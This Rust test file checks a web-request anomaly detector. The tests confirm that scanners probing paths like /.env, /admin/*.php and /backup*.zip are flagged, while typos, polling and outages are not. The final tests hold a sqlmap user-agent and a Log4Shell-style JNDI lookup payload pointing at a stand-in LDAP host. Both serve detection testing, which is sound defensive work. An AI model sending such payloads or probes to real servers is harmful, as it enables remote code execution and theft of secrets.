//! Callers that try things out, and those who only have bad luck.

use super::{Call, Judge, assert_blamed, assert_not_blamed, learned, p_of};
use engine::{Family, Label, Model, Verdict};
use std::sync::{Arc, LazyLock};

const DAY: i64 = 86_400_000;

/// A visit of three requests; one item in 40 is sold out and answered 404.
fn visit(at: i64, n: usize, ip: &str) -> Vec<Call> {
    let session = format!("v{n}");
    let item = |later: i64, item: usize| {
        let call = Call::new(at + later, &session, "GET", &format!("/items/{}", 1_000 + item)).from(ip, "shop-app (Android)");
        if item.is_multiple_of(40) { call.answered(404, r#"{"error":"sold out"}"#) } else { call }
    };
    let list = Call::new(at, &session, "GET", "/items").from(ip, "shop-app (Android)");
    vec![list, item(3_000, n * 7 % 900), item(9_000, n * 13 % 900)]
}

static SHOP: LazyLock<Arc<Model>> = LazyLock::new(|| {
    let calls: Vec<Call> = (0..1_500).flat_map(|n| visit(n as i64 * 40_000, n, &format!("203.0.{}.{}", n % 80, n % 90))).collect();
    learned(&calls)
});

fn lost(at: i64, session: usize, ip: &str, path: &str) -> Call {
    Call::new(at, &format!("x{session}"), "GET", path).from(ip, "shop-app (Android)").answered(404, r#"{"error":"no such page"}"#)
}

fn is_anomalous(verdict: &Verdict) -> bool {
    verdict.label == Label::Anomalous
}

#[test]
fn a_scanner_stands_out_over_its_sessions_with_what_is_well_formed_too_and_is_forgotten() {
    let mut judge = Judge::new(&SHOP);
    let (at, ip) = (DAY, "198.51.100.7");
    for n in 0..12 {
        judge.judge(&lost(at + n as i64 * 300, n, ip, &format!("/admin/{n}.php")));
    }
    let scanning = judge.judge(&lost(at + 4_000, 50, ip, "/.env"));
    assert_blamed(&scanning, Family::Fuzzing, "client.ip");
    let well_formed = judge.judge(&visit(at + 5_000, 51, ip)[0]);
    assert!(is_anomalous(&well_formed), "{well_formed:#?}");
    assert_eq!(well_formed.families.first(), Some(&Family::Fuzzing));
    let elsewhere = judge.judge(&visit(at + 6_000, 52, "203.0.3.3")[0]);
    assert_not_blamed(&elsewhere, Family::Fuzzing);
    let later = judge.judge(&visit(at + 3 * 3_600_000, 53, ip)[0]);
    assert_not_blamed(&later, Family::Fuzzing);
}

#[test]
fn two_paths_that_lead_nowhere_are_odd_and_no_alert_and_three_are_one() {
    let mut judge = Judge::new(&SHOP);
    let mut tried = |n: i64, path: &str| judge.judge(&lost(DAY + n * 400, 60, "198.51.100.11", path));
    assert_not_blamed(&tried(0, "/favicon.ico"), Family::Fuzzing);
    let second = tried(1, "/server-status");
    assert_eq!(second.label, Label::Benign);
    assert!((0.01..0.012).contains(&p_of(&second, Family::Fuzzing)), "{second:#?}");
    assert!(is_anomalous(&tried(2, "/.env")));
}

#[test]
fn an_office_with_typing_errors_and_a_machine_that_repeats_itself_stay_quiet() {
    let mut judge = Judge::new(&SHOP);
    let (at, office) = (DAY, "198.51.100.8");
    for n in 0..400 {
        let calls = visit(at + n as i64 * 900, 2_000 + n, office);
        let typo = lost(at + n as i64 * 900 + 800, 2_000 + n, office, &format!("/itmes{n}"));
        for call in calls.iter().take(if n % 5 == 0 { 2 } else { 3 }).chain((n % 5 == 0).then_some(&typo)) {
            assert_not_blamed(&judge.judge(call), Family::Fuzzing);
        }
    }
    for n in 0..200 {
        let poll = lost(at + 600_000 + n * 2_000, 9_000, "198.51.100.9", "/jobs/current");
        assert_not_blamed(&judge.judge(&poll), Family::Fuzzing);
    }
}

#[test]
fn an_outage_is_no_scan_and_a_scan_during_it_still_is_one() {
    let mut judge = Judge::new(&SHOP);
    let at = DAY;
    let mut blamed = 0;
    for n in 0..600usize {
        let ip = format!("203.0.{}.{}", n % 60, n % 70);
        let broken = Call::new(at + n as i64 * 250, &format!("o{}", n % 120), "GET", &format!("/items/{}", 1_001 + n))
            .from(&ip, "shop-app (Android)")
            .answered(502, "");
        blamed += usize::from(judge.judge(&broken).families.contains(&Family::Fuzzing));
    }
    assert_eq!(blamed, 0, "of 600 failures of an outage");
    let mut last = None;
    for n in 0..12 {
        last = Some(judge.judge(&lost(at + 150_000 + n as i64 * 100, 7_000, "198.51.100.7", &format!("/backup{n}.zip"))));
    }
    assert_blamed(&last.expect("judged"), Family::Fuzzing, "client.ip");
}

#[test]
fn a_tool_is_called_by_its_name_and_an_address_in_one_is_not_shown() {
    let said = |agent: &str| {
        let mut call = visit(DAY, 60, "198.51.100.9").remove(0);
        agent.clone_into(&mut call.agent);
        let verdict = Judge::new(&SHOP).judge(&call);
        let reason = verdict.reasons.iter().find(|r| r.place == "request.headers.user-agent").cloned();
        reason.unwrap_or_else(|| panic!("a reason expected: {verdict:#?}")).observed
    };
    let tool = said("sqlmap/1.8#stable (https://sqlmap.org)");
    assert!(tool.contains("sqlmap/0.0#stable"), "{tool}");
    let address = said("crawler by jane.doe@corp.example #7");
    assert!(!address.contains("jane") && !address.contains("corp"), "{address}");
}

#[test]
fn a_new_client_by_a_plain_name_is_no_finding_and_code_in_the_name_is() {
    let judged = |agent: &str| {
        let mut call = visit(DAY, 61, "198.51.100.10").remove(0);
        agent.clone_into(&mut call.agent);
        Judge::new(&SHOP).judge(&call)
    };
    for agent in
        ["okhttp/5.0.0-alpha.12", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "PostmanRuntime/7.37.0"]
    {
        let verdict = judged(agent);
        assert!(!is_anomalous(&verdict), "{verdict:#?}");
    }
    let code = judged("Mozilla/5.0 ${jndi:ldap://198.51.100.7/a}");
    assert!(is_anomalous(&code), "{code:#?}");
}
